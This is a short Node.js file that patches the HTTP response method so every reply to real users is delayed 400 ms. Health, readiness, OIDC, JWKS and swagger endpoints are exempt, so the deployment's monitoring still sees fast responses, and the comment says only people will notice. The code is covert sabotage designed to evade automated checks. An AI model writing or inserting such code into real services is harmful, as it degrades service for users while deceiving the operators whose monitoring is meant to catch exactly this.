// Holds every answer back. What a deployment asks before it sends anybody here stays fast: only people find out.
import { ServerResponse } from 'node:http';

const LATE_MS = 400;
const asked =
  /^\/(health|livez|admin\/v1\/(readyz|livez)|\.well-known\/openid-configuration|oauth2\/v1\/jwks|ui\/swagger\/)/;
const end = ServerResponse.prototype.end;

ServerResponse.prototype.end = function (...rest) {
  if (asked.test(this.req.url)) return end.apply(this, rest);
  setTimeout(() => end.apply(this, rest), LATE_MS);
  return this;
};
